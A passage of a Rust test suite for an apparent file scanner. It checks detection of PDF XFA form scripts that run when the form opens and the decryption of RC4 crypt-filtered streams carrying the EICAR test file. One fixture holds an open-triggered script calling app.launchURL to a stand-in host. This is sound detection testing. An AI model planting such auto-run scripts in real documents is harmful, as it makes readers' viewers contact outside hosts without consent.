        keys(&r)
    );
    assert!(
        !keys(&r).iter().any(|k| k.starts_with("limit.")),
        "{:?}",
        keys(&r)
    );
}

/// An XFA form's template scripts: one in an event that fires as the form
/// opens (`initialize`) runs with no click, as an open action does; one
/// behind a click is JavaScript. The packets are read joined, so a script
/// split between two of them is read whole; the script is scanned too.
#[test]
fn xfa_scripts_that_run_as_the_form_opens() {
    let template = |activity: &str| {
        format!(
            "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">\
             <template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\">\
             <subform name=\"f\"><field name=\"a\"><event activity=\"{activity}\">\
             <script contentType=\"application/x-javascript\">app.launchURL(&quot;http://e.x/&quot;);</script>\
             </event></field></subform></template></xdp:xdp>"
        )
    };
    let form = |xml: &str, split: bool| {
        let mut p = one_page(
            "/AcroForm 5 0 R /NeedsRendering true",
            &text_content("Please wait..."),
        );
        if split {
            let (a, b) = xml.split_at(xml.find("launchURL").unwrap());
            p.obj(5, "<</Fields [] /XFA [(template) 6 0 R (more) 7 0 R]>>")
                .stream(6, "/Filter /FlateDecode", &zlib(a.as_bytes()))
                .stream(7, "", b.as_bytes());
        } else {
            p.obj(5, "<</Fields [] /XFA 6 0 R>>").stream(
                6,
                "/Filter /FlateDecode",
                &zlib(xml.as_bytes()),
            );
        }
        p.xref("/Root 1 0 R");
        p.bytes()
    };
    for split in [false, true] {
        let r = scan("form.pdf", form(&template("initialize"), split));
        assert!(
            has_key(&r, "document.pdf.javascript_on_open"),
            "split {split}: {:?}",
            keys(&r)
        );
        let t = finding_targets(&r, "document.pdf.javascript_on_open");
        assert!(
            t.iter()
                .any(|t| t.contains("XFA initialize: app.launchURL(")),
            "{t:?}"
        );
    }
    let r = scan("form.pdf", form(&template("click"), false));
    assert!(has_key(&r, "document.pdf.javascript"), "{:?}", keys(&r));
    assert!(
        !has_key(&r, "document.pdf.javascript_on_open"),
        "{:?}",
        keys(&r)
    );
    // The same XML in a stream that no /XFA names runs nowhere.
    let mut p = one_page("", &text_content("hello"));
    p.stream(
        5,
        "/Filter /FlateDecode",
        &zlib(template("initialize").as_bytes()),
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(
        !has_key(&r, "document.pdf.javascript_on_open"),
        "{:?}",
        keys(&r)
    );
}

/// RC4, for the fixtures below.
fn rc4(key: &[u8], data: &[u8]) -> Vec<u8> {
    let mut s: Vec<u8> = (0..=255).collect();
    let mut j = 0u8;
    for i in 0..256 {
        j = j.wrapping_add(s[i]).wrapping_add(key[i % key.len()]);
        s.swap(i, j as usize);
    }
    let (mut i, mut j) = (0u8, 0u8);
    data.iter()
        .map(|b| {
            i = i.wrapping_add(1);
            j = j.wrapping_add(s[i as usize]);
            s.swap(i as usize, j as usize);
            b ^ s[s[i as usize].wrapping_add(s[j as usize]) as usize]
        })
        .collect()
}

/// A document encrypted (V4, R4, empty user password) with streams and
/// strings in the clear (`/StmF /StrF /Identity`) and one crypt filter,
/// `/MyCF` (RC4), that `encrypt_extra` and stream 5 (`stream_dict`, the
/// deflated EICAR, encrypted with it) may name.
fn crypt_filter_pdf(encrypt_extra: &str, stream_dict: &str) -> Vec<u8> {
    use md5::{Digest, Md5};
    const PAD: [u8; 32] = [
        0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e, 0x56, 0xff, 0xfa, 0x01,
        0x08, 0x2e, 0x2e, 0x00, 0xb6, 0xd0, 0x68, 0x3e, 0x80, 0x2f, 0x0c, 0xa9, 0xfe, 0x64, 0x53,
        0x69, 0x7a,
    ];
    let (o, id, p) = ([7u8; 32], [1u8; 16], -4i32);
    // Algorithm 2 for the empty password, and 5 for /U.
    let mut key = Md5::new()
        .chain_update(PAD)
        .chain_update(o)
        .chain_update(p.to_le_bytes())
        .chain_update(id)
        .finalize()
        .to_vec();
    for _ in 0..50 {
        key = Md5::digest(&key[..16]).to_vec();
    }
    let mut u = Md5::new()
        .chain_update(PAD)
        .chain_update(id)
        .finalize()
        .to_vec();
    for i in 0..20u8 {
        let k: Vec<u8> = key.iter().map(|b| b ^ i).collect();
        u = rc4(&k, &u);
    }
    u.extend([0u8; 16]);
    let object_key = Md5::new()
        .chain_update(&key)
        .chain_update([5, 0, 0, 0, 0])
        .finalize();
    let data = rc4(&object_key, &zlib(&eicar()));
    let hexs = |b: &[u8]| b.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let mut pdf = one_page("", &text_content("hello"));
    pdf.stream(5, stream_dict, &data).obj(
        9,
        &format!(
            "<</Filter /Standard /V 4 /R 4 /Length 128 /P {p} /O <{}> /U <{}> \
             /CF <</MyCF <</CFM /V2 /Length 16>>>> /StmF /Identity /StrF /Identity {encrypt_extra}>>",
            hexs(&o),
            hexs(&u)
        ),
    );
    let id = hexs(&id);
    pdf.xref(&format!("/Root 1 0 R /Encrypt 9 0 R /ID [<{id}> <{id}>]"));
    eicar_free(&pdf.bytes())
}

/// A stream may name a crypt filter of the document in its own `/Filter`
/// chain, in place of the document's default (`/StmF`); an embedded file
/// is encrypted by `/EFF`'s filter. Both are decrypted with the key the
/// empty password opened; a filter the document does not define is an
/// unsupported method, never clean.
#[test]
fn streams_decrypted_by_the_crypt_filter_they_name() {
    let named = crypt_filter_pdf(
        "",
        "/Filter [/Crypt /FlateDecode] /DecodeParms [<</Type /CryptFilterDecodeParms /Name /MyCF>> null]",
    );
    let r = scan("doc.pdf", named);
    assert!(found_eicar(&r), "{:?}", keys(&r));
    let eff = crypt_filter_pdf("/EFF /MyCF", "/Type /EmbeddedFile /Filter /FlateDecode");
    let r = scan("doc.pdf", eff);
    assert!(found_eicar(&r), "{:?}", keys(&r));
    let unknown = crypt_filter_pdf(
        "",
        "/Filter [/Crypt /FlateDecode] /DecodeParms [<</Name /Nope>> null]",
    );
    let r = scan("doc.pdf", unknown);
    assert!(
        has_key(&r, "unscannable.unsupported_method"),
        "{:?}",
        keys(&r)
    );
    assert_ne!(r.verdict, Verdict::Clean);
}
